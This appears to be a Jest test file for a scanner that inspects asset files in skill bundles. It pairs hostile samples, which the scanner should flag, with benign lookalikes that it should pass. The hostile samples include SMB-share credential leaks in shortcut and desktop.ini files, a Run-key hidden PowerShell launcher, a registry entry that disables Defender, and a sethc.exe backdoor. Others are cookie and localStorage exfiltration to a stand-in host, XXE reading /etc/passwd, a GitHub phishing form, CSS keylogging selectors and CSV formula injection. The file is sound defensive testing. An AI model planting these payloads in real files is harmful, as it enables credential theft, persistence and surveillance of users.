import { describe, expect, it } from '@jest/globals';

import { analyse } from '../../../src/skills/analysis/analyse.js';
import { leastProcessorTime } from '../../support/processor-time.js';
import { bundleOf } from '../analysis/example-bundle.js';
import { judged } from './inner-files.js';

const HOST = 'https://cdn.inner-files.net';
const SHARE = '\\\\203.7.32.99\\share';
const plist = (entries: string): string => `<?xml version="1.0"?><plist version="1.0"><dict>${entries}</dict></plist>`;
const registry = (key: string, value: string): string => `Windows Registry Editor Version 5.00\r\n\r\n[${key}]\r\n${value}\r\n`;

describe('a file that the system acts on', () => {
  it.each([
    ['guide.url', `[InternetShortcut]\r\nURL=file://203.7.32.99/share/setup.exe\r\nIconFile=${SHARE}\\i.ico\r\n`],
    ['search.url', `[InternetShortcut]\r\nURL=search-ms:query=x&crumb=location:${SHARE}\r\n`],
    ['@icon.scf', `[Shell]\r\nCommand=2\r\nIconFile=${SHARE}\\t.ico\r\n`],
    ['docs.library-ms', `<libraryDescription><simpleLocation><url>${SHARE}</url></simpleLocation></libraryDescription>`],
    ['desktop.ini', `[.ShellClassInfo]\r\nIconResource=${SHARE}\\i.dll,0\r\n`],
    ['a.settingcontent-ms', '<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c start a.exe</DeepLink></PCSettings>'],
    ['autorun.inf', '[autorun]\r\nopen=setup.exe\r\n'],
    ['app.jnlp', `<jnlp codebase="${HOST}/j"><security><all-permissions/></security></jnlp>`],
    [
      'profile.mobileconfig',
      plist('<string>com.apple.security.root</string><string>com.apple.proxy.http.global</string><string>203.7.32.99</string>'),
    ],
    [
      'run.reg',
      registry('HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '"Up"="powershell -w hidden -f %TEMP%\\\\u.ps1"'),
    ],
    ['off.reg', registry('HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender', '"DisableAntiSpyware"=dword:00000001')],
    [
      'keys.reg',
      registry(
        'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
        '"Debugger"="cmd.exe"',
      ),
    ],
    ['a.jse', '#@~^XgAAAA==\\ks4K6`E_n^VGE#p~~#@&'],
  ])('fails when it would act against its user: %s', (path, text) => {
    const { verdict, findings } = judged(`assets/${path}`, text);
    expect(verdict).toBe('FAIL');
    expect(findings.some(({ rule, region }) => rule === 'skill/active-document' && region !== undefined)).toBe(true);
  });

  it.each([
    ['docs.url', '[InternetShortcut]\r\nURL=https://www.contoso.com/docs\r\n'],
    ['docs.webloc', plist('<key>URL</key><string>https://developer.mozilla.org/</string>')],
    ['here.reg', registry('HKEY_CLASSES_ROOT\\Directory\\shell\\Open\\command', '@="\\"C:\\\\Program Files\\\\Code.exe\\" \\"%V\\""')],
    ['paths.reg', registry('HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\FileSystem', '"LongPathsEnabled"=dword:00000001')],
    ['usb.inf', '[Version]\r\nSignature="$Windows NT$"\r\n[DefaultInstall]\r\nCopyFiles=Files\r\n'],
    ['wifi.mobileconfig', plist('<string>com.apple.wifi.managed</string>')],
    ['app.jnlp', '<jnlp codebase="http://localhost:8080/j"><resources/></jnlp>'],
    ['desktop.ini', '[.ShellClassInfo]\r\nIconResource=C:\\icons\\a.ico,0\r\n'],
  ])('passes when it is ordinary: %s', (path, text) => {
    expect(judged(`assets/${path}`, text).verdict).toBe('PASS');
  });
});

describe('a page, a picture or a table', () => {
  it.each([
    ['a.svg', `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("${HOST}/c?"+document.cookie)</script></svg>`],
    ['a.xml', `<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "${HOST}/x.dtd">%d;]><d/>`],
    ['a.html', '<meta http-equiv="refresh" content="0;url=http://203.7.32.99/setup.exe">'],
    ['a.html', `<h1>Sign in to GitHub</h1><form action="${HOST}/l" method="post"><input type="password" name="p"></form>`],
    ['a.html', `<script>fetch("${HOST}/c",{method:"POST",body:JSON.stringify(localStorage)})</script>`],
    ['a.css', ['a', 'b', 'c'].map((letter) => `input[value^="${letter}"]{background:url(${HOST}/k?${letter})}`).join('\n')],
    ['a.csv', "name,total\n=cmd|'/C powershell -w hidden'!A0,5\n"],
    ['a.csv', 'name\n"=IMPORTXML(CONCAT(""https://webhook.site/1/?v="",A2:E2),""//a"")"\n'],
  ])('fails when it gives away or fetches: %s', (path, text) => {
    expect(judged(`assets/${path}`, text).verdict).toBe('FAIL');
  });

  it.each([
    [
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url("https://fonts.googleapis.com/css");</style><text>Sales</text></svg>',
    ],
    ['a.svg', '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'],
    ['a.html', '<meta http-equiv="refresh" content="0; url=./docs/index.html">'],
    ['a.html', '<form action="/login" method="post"><input type="password"></form>'],
    ['a.html', '<script>a.href=URL.createObjectURL(new Blob([d]));a.download="report.csv";a.click()</script>'],
    ['a.html', '<script src="jszip.js"></script><script>a.href=URL.createObjectURL(new Blob([b]));a.download="site.zip"</script>'],
    ['a.html', '<h1>Acme: sign in</h1><form action="https://app.acme-forms.net/l"><input type="password"></form>'],
    ['a.css', 'input[type="text"]{background:url(https://cdn.acme-forms.net/a.png)}'],
    ['a.csv', 'name,total,delta\nAnna,5,+3\nBob,7,-2\n=SUM(B2:B3),,\n"=HYPERLINK(""https://www.contoso.com"",""Site"")",1,2\n'],
  ])('passes when it is ordinary: %s', (path, text) => {
    expect(judged(`assets/${path}`, text).verdict).toBe('PASS');
  });
});

describe('the patterns of these files', () => {
  it.each([
    ['a.html', '<meta http-equiv="refresh" '.repeat(2000)],
    ['a.html', '<iframe width="0" '.repeat(3000)],
    ['a.html', `<form action="${HOST}" `.repeat(1500)],
    ['a.svg', '<foreignObject '.repeat(3500)],
    ['a.css', '[value^="a"]'.repeat(4000)],
    ['a.csv', '=HYPERLINK("https://a'.repeat(2500)],
    ['a.reg', `[HKEY\\${'Windows\\'.repeat(6000)}`],
    ['a.xml', '<!ENTITY % a SYSTEM '.repeat(2500)],
    ['a.jnlp', '<jnlp codebase='.repeat(3500)],
  ])('are linear on adversarial text: %s', (path, text) => {
    const bundle = bundleOf({ 'SKILL.md': '# Page\n', [path]: text.slice(0, 50_000) });
    expect(leastProcessorTime(() => analyse(bundle), 400)).toBeLessThan(400);
  });
});
